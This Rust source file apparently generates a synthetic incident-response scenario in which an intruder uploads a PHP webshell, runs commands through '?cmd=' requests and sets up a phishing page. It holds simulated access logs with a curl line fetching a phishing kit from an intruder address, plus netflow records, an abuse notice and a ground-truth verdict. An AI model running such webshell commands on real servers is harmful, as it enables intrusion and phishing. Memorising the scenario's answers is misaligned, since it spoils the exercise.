//! A script is uploaded through the web application; with it a phishing page is set up on the web server.

use abate_model::truth::Attacker;
use abate_model::{Category, CauseKind, Factor, Text, Verdict};

use super::Scenario;
use crate::clock::{self, HOUR, Second};
use crate::flow::{self, Amount, End, TCP};
use crate::folder::{Frame, Record};
use crate::mail::{self, Notice};
use crate::rng::Rng;
use crate::stage::{Outcome, Stage};
use crate::weblog::{self, Hit, Visits};
use crate::world::World;

pub(super) static SCENARIO: Scenario = Scenario {
    id: "webshell-phishing",
    title: Text::fixed("Phishing page set up through an uploaded script", "不正スクリプトの設置によるフィッシングサイト"),
    summary: Text::fixed(
        "A stranger uploads a script through a form of the web application, runs commands with it and sets up a phishing page that many people visit.",
        "第三者がウェブアプリケーションのフォームからスクリプトを設置してコマンドを実行し、フィッシングページを公開します。このページには多数の閲覧者が訪れます。",
    ),
    build,
};

/// The command with which the page's files are fetched; the address follows it.
const FETCH: &str = "curl+-o+kit.zip+http%3A%2F%2F";

/// The names that the intruder finds or makes.
struct Site {
    upload: String,
    shell: String,
    page: String,
}

impl Site {
    fn new(world: &World, rng: &mut Rng) -> Self {
        let uploads = match rng.range(0, 2) {
            0 => "/uploads".to_owned(),
            1 => format!("/wp-content/uploads/{}", clock::month_path(world.incident)),
            _ => "/contact/uploads".to_owned(),
        };
        let upload = rng.pick(&["/contact/upload.php", "/recruit/attach.php", "/form/upload.php", "/gallery/add.php"]).to_owned();
        let shell = format!("{uploads}/{}.php", rng.pick(&["x", "img01", "cache", "thumb", "wp-tmp"]));
        let page = format!("{uploads}/{}/", rng.pick(&["bank-verify", "account-check", "card-update", "parcel-redelivery"]));
        Self { upload, shell, page }
    }
}

fn build(stage: &mut Stage) -> Outcome {
    super::trail(stage, super::NO_BUILDS, Vec::new());
    let (world, start) = (stage.world.clone(), stage.world.incident);
    let site = Site::new(&world, &mut stage.attack);
    let (mut lines, mut flows) = (Vec::new(), Vec::new());
    let live = start + stage.attack.range(30 * 60, 60 * 60);
    for (from, record) in intrusion(&world, &mut stage.attack, &site).into_iter().chain(victims(&mut stage.attack, &site, live)) {
        flows.extend(connection(&world, &mut stage.attack, &from, record.at));
        if record.text.contains(FETCH) {
            flows.extend(download(&world, record.at));
        }
        lines.push(record);
    }
    let visits = Visits { count: 1500_u32.saturating_mul(stage.scales.hosts), span: (start - 20 * HOUR, start + 8 * HOUR) };
    stage.log("evidence/web1/access.log", Frame::LINES, Some(Box::new(visits)), lines);
    super::flows(stage, (4, 8), flows, &[80, 443]);

    let notice = notice(&world, &mut stage.attack, &site, live + HOUR);
    let outcome = Outcome::new(Category::Phishing, CauseKind::WebshellUpload, Factor::Vulnerability, Verdict::Confirmed, notice);
    let addresses = vec![world.intruder(0).to_owned(), world.intruder(1).to_owned()];
    Outcome { attacker: Attacker { addresses, principals: Vec::new() }, ..outcome }
}

/// What the intruder requests, with the intruder's address.
fn intrusion(world: &World, rng: &mut Rng, site: &Site) -> Vec<(String, Record)> {
    let (from, mut at) = (world.intruder(0), world.incident);
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let hit = |at: Second, request: &str, bytes: i64| (from.to_owned(), weblog::line(Hit { at, from, request, status: 200, bytes, agent }));
    let because = |(from, record): (String, Record), why| (from, record.because(why));
    let mut hits = vec![hit(at - 40, &format!("GET {}", site.upload), 2_310)];
    hits.push(because(hit(at, &format!("POST {}", site.upload), 187), "the upload of the intruder's script"));
    let commands = ["id", "uname+-a", "ls+-la", "pwd", FETCH, "unzip+kit.zip", "ls+-la", "rm+kit.zip"];
    for (n, command) in commands.iter().enumerate() {
        at += rng.range(15, 120);
        let host = if *command == FETCH { format!("{}%2Fkit.zip", world.intruder(1)) } else { String::new() };
        let line = hit(at, &format!("GET {}?cmd={command}{host}", site.shell), rng.range(40, 900));
        hits.push(if n == 0 { because(line, "the first command through the uploaded script") } else { line });
    }
    hits
}

/// Who visits the page once it is live.
fn victims(rng: &mut Rng, site: &Site, live: Second) -> Vec<(String, Record)> {
    let mut hits = Vec::new();
    for n in 0..rng.range(60, 90) {
        let (at, from, agent) = (live + n * 190 + rng.range(0, 150), rng.stranger().to_string(), weblog::browser(rng));
        let get = format!("GET {}", site.page);
        let record = weblog::line(Hit { at, from: &from, request: &get, status: 200, bytes: 14_220, agent });
        let record = if n == 0 { record.because("the phishing page is served for the first time") } else { record };
        hits.push((from.clone(), record));
        if rng.chance(25) {
            let post = format!("POST {}next.php", site.page);
            let record = weblog::line(Hit { at: at + 40, from: &from, request: &post, status: 302, bytes: 0, agent });
            hits.push((from, record));
        }
    }
    hits
}

/// The connection behind a request.
fn connection(world: &World, rng: &mut Rng, from: &str, at: Second) -> [Record; 2] {
    let (client, server) = (End::new(from, rng.range(32_768, 60_999)), End::new(&world.web.private, 443));
    let there = Amount { protocol: TCP, packets: 11, bytes: rng.range(1_400, 2_600), span: (at, at + 5), accepted: true };
    let back = Amount { packets: 17, bytes: rng.range(5_000, 22_000), ..there };
    [flow::line(world, &world.web, &client, &server, there), flow::line(world, &world.web, &server, &client, back)]
}

/// The server fetches the page's files from the intruder's other address.
fn download(world: &World, at: Second) -> [Record; 2] {
    let (client, server) = (End::new(&world.web.private, 47_812), End::new(world.intruder(1), 80));
    let there = Amount { protocol: TCP, packets: 41, bytes: 2_480, span: (at, at + 3), accepted: true };
    let back = Amount { packets: 188, bytes: 263_310, ..there };
    [flow::line(world, &world.web, &client, &server, there), flow::line(world, &world.web, &server, &client, back)]
}

fn notice(world: &World, rng: &mut Rng, site: &Site, at: Second) -> Vec<u8> {
    let url = format!("hxxp://www[.]{}{}", world.domain.replace('.', "[.]"), site.page);
    let notice = Notice {
        sent: at + rng.range(3 * HOUR, 9 * HOUR),
        report: vec![
            "We've received a report(s) that your AWS resource(s)".to_owned(),
            String::new(),
            super::resource_line(world, &world.web),
            String::new(),
            "has been implicated in hosting content that resembles a phishing website.".to_owned(),
            String::new(),
            format!("Reported URL: {url}"),
            format!("Abuse Time: {}", clock::notice(at)),
        ],
        excerpt: vec![
            "A page that imitates a company's sign-in page is online. Please take it down.".to_owned(),
            String::new(),
            format!("URL: {url}"),
            format!("IP address: {}", world.web.public),
            format!("Seen: {}", clock::notice(at)),
        ],
    };
    mail::write(world, rng, &notice)
}
